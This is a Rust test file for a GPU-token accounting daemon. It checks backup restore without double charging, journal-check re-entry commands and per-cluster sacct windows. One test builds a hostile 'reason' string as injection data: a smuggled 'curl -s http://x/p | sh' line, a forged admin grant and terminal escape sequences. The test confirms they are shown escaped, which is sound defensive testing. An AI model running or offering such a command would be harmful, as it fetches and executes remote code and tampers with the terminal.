//! A restore, end to end without a cluster: charge jobs A and B, back up, charge C and D and grant,
//! put the backup in place of the ledger, charge sacct's rows of A, B, C and D again: C and D are
//! charged once, A and B not again, and the journal check lists the grant with the command that
//! enters it again, once.

use std::path::{Path, PathBuf};

use gputokens::access::Caller;
use gputokens::protocol::{Reply, Request};
use gputokens::Config;
use ledger::Ledger;

use crate::answering::Answering;
use crate::cycles::charge::{next_window_start, READ_UNTIL};
use crate::cycles::CycleState;
use crate::resources::Resources;
use crate::socket::handler::handle;

const HEADER: &str = "JobIDRaw|User|AllocTRES|ElapsedRaw|Start|State\n";
/// One a6000 for an hour each (4 tokens at the price below); A and B end before the backup.
const A: &str = "101|bob|gres/gpu:a6000=1,gres/gpu=1|3600|2026-11-30T08:00:00|COMPLETED\n";
const B: &str = "102|bob|gres/gpu:a6000=1,gres/gpu=1|3600|2026-11-30T09:00:00|COMPLETED\n";
const C: &str = "103|bob|gres/gpu:a6000=1,gres/gpu=1|3600|2026-11-30T12:00:00|COMPLETED\n";
const D: &str = "104|bob|gres/gpu:a6000=1,gres/gpu=1|7200|2026-11-30T12:00:00|FAILED\n";
const BACKUP_AT: i64 = 1_764_500_000;

fn config(dir: &Path) -> Config {
    let text = format!(
        "initial = 100\ndaily = 0\nmonthly = 0\n[prices]\na6000 = 4\n[paths]\nledger = \"{0}/ledger.sqlite\"\n\
         snapshot = \"{0}/balances.snapshot\"\nsocket = \"{0}/accountd.sock\"\nadmin_journal = \"{0}/journal/j.jsonl\"\n",
        dir.display()
    );
    Config::parse(&text, Path::new("test.toml")).unwrap()
}

fn open(config: &Config) -> CycleState {
    let ledger = Ledger::open(&config.paths.ledger, config.into()).unwrap();
    CycleState::new(Resources::new(config.clone(), ledger))
}

fn charge_file(cycle: &mut CycleState, dir: &Path, rows: &[&str], now: i64) -> String {
    let file: PathBuf = dir.join("sacct.txt");
    std::fs::write(&file, format!("{HEADER}{}", rows.concat())).unwrap();
    crate::cli::sacct_file::charge(cycle, &file, now).unwrap()
}

fn balance(res: &Resources) -> String {
    res.ledger.account("bob").unwrap().unwrap().balance.to_string()
}

fn grant(answering: &mut Answering, key: &str, now: i64) -> Reply {
    let root = Caller { uid: 0, name: "root".into(), admin: true };
    let request = Request::Grant {
        user: "bob".into(),
        amount: "25".parse().unwrap(),
        reason: "course".into(),
        key: Some(key.into()),
        expires: None,
    };
    handle(answering, &root, request, now).0
}

#[test]
fn a_restored_backup_charges_the_jobs_since_once_and_the_journal_lists_the_grant() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("journal")).unwrap();
    let config = config(dir.path());
    let backup = dir.path().join("backup.sqlite");

    let mut cycle = open(&config);
    assert!(charge_file(&mut cycle, dir.path(), &[A, B], BACKUP_AT).starts_with("2 records: 2 charge entries"));
    // As a charge cycle leaves it: sacct read up to the backup's time.
    cycle.res.ledger.set_meta(READ_UNTIL, &BACKUP_AT.to_string()).unwrap();
    assert_eq!(balance(&cycle.res), "92");
    cycle.res.ledger.backup_to(&backup, false).unwrap();

    let later = BACKUP_AT + 86_400;
    assert!(charge_file(&mut cycle, dir.path(), &[A, B, C, D], later).contains("2 charge entries, 12 tokens charged"));
    cycle.res.ledger.set_meta(READ_UNTIL, &later.to_string()).unwrap();
    let mut answering = Answering::new(cycle.res).unwrap();
    assert!(matches!(grant(&mut answering, "course-42", later), Reply::Recorded { replayed: false, .. }));
    crate::admin_journal::export(&mut answering.res); // as serve's exporter does
    assert_eq!(balance(&answering.res), "105");
    drop(answering);

    // The restore as README says: accountd stopped, its WAL removed, the backup copied over the ledger.
    let ledger = &config.paths.ledger;
    for stale in ["ledger.sqlite-wal", "ledger.sqlite-shm"] {
        let _ = std::fs::remove_file(dir.path().join(stale));
    }
    std::fs::copy(&backup, ledger).unwrap();
    let mut cycle = open(&config);
    assert_eq!(balance(&cycle.res), "92", "the backup's balance");
    let window = next_window_start(&cycle.res, later + 3600).unwrap();
    let reread = config.slurm.reread.as_secs() as i64;
    assert_eq!(
        (window.read_until, window.since),
        (Some(BACKUP_AT), BACKUP_AT - reread),
        "sacct is read from the backup"
    );

    let again = charge_file(&mut cycle, dir.path(), &[A, B, C, D], later + 3600);
    assert!(again.starts_with("4 records: 2 charge entries, 12 tokens charged, 2 already charged"), "{again}");
    assert_eq!(balance(&cycle.res), "80", "C and D charged once, A and B not again");
    assert_eq!(cycle.res.ledger.verify().unwrap().problems, Vec::<String>::new());

    let (lines, missing) = crate::cli::journal_check::report(&cycle.res.ledger, &config.paths.admin_journal).unwrap();
    assert_eq!(missing, 1, "{lines:#?}");
    assert!(
        lines[0].starts_with("missing: ") && lines[0].contains("grant 25 bob by root (course), key grant:course-42")
    );
    assert_eq!(lines[1], "  accountd admin grant bob 25 --reason course --key course-42");

    // Entered again as the check says, twice: the second changes nothing.
    let mut answering = Answering::new(cycle.res).unwrap();
    assert!(matches!(grant(&mut answering, "course-42", later + 7200), Reply::Recorded { replayed: false, .. }));
    assert!(matches!(grant(&mut answering, "course-42", later + 7300), Reply::Recorded { replayed: true, .. }));
    assert_eq!(balance(&answering.res), "105", "the balance before the restore");
    let (lines, missing) =
        crate::cli::journal_check::report(&answering.res.ledger, &config.paths.admin_journal).unwrap();
    assert_eq!(missing, 0, "{lines:#?}");
    assert!(lines[0].ends_with(": 1 entries, all in the ledger"), "{lines:#?}");
}

/// The audit's M1: a reason journaled before control characters were refused (a coordinator's
/// newline and escape sequences) is shown escaped on one line, and the command to paste is one
/// line that enters exactly that text again.
#[test]
fn the_journal_check_shows_a_hostile_reason_on_one_line_and_quotes_it_whole() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("journal")).unwrap();
    let config = config(dir.path());
    let cycle = open(&config);
    let reason = "term grant\n  accountd admin grant carol 100000 --key r1; curl -s http://x/p | sh\n\u{1b}[2K\u{1b}]52;c;eA==\u{7}";
    let line = crate::admin_journal::JournalLine {
        key: "grant:k1".into(),
        entry_id: 7,
        at: BACKUP_AT,
        admin: "carol".into(),
        user: "account course".into(),
        kind: gputokens::entry::EntryKind::Grant,
        amount: "1".parse().unwrap(),
        reason: reason.into(),
        job_id: None,
        command: None,
    };
    std::fs::write(&config.paths.admin_journal, serde_json::to_string(&line).unwrap() + "\n").unwrap();
    let (lines, missing) = crate::cli::journal_check::report(&cycle.res.ledger, &config.paths.admin_journal).unwrap();
    assert_eq!(missing, 1, "{lines:#?}");
    for shown in &lines {
        assert!(!shown.chars().any(gputokens::free_text::hidden_meaning), "{shown:?}");
    }
    assert!(lines[0]
        .contains(r"(term grant\n  accountd admin grant carol 100000 --key r1; curl -s http://x/p | sh\n\u{1b}[2K"));
    let command = &lines[1];
    assert!(
        command.starts_with("  accountd admin account grant course 1 --reason $'term grant\\x0a  accountd"),
        "{command}"
    );
    assert!(command.ends_with(" --key k1"), "{command}");
}

/// Each cluster of a shared ledger reads sacct from where it stopped: one cluster's cycles moving
/// on never move another's window past jobs it has not read (its accountd down a day).
#[test]
fn each_cluster_reads_sacct_from_where_it_stopped() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("journal")).unwrap();
    let mut first = config(dir.path());
    first.clusters = gputokens::config::Clusters { names: vec!["old".into(), "new".into()], local: None };
    let mut second = first.clone();
    second.clusters.local = Some("new".into());
    let (mut old, mut new) = (open(&first), open(&second));
    old.res.ledger.set_meta(READ_UNTIL, &(BACKUP_AT + 86_400).to_string()).unwrap();
    let key = crate::cycles::charge::cluster_meta(&new.res, READ_UNTIL);
    assert_eq!(key, "sacct_read_until:new");
    new.res.ledger.set_meta(&key, &BACKUP_AT.to_string()).unwrap();
    let reread = first.slurm.reread.as_secs() as i64;
    let now = BACKUP_AT + 2 * 86_400;
    assert_eq!(next_window_start(&old.res, now).unwrap().since, BACKUP_AT + 86_400 - reread);
    assert_eq!(next_window_start(&new.res, now).unwrap().since, BACKUP_AT - reread, "new's own, a day behind");
}
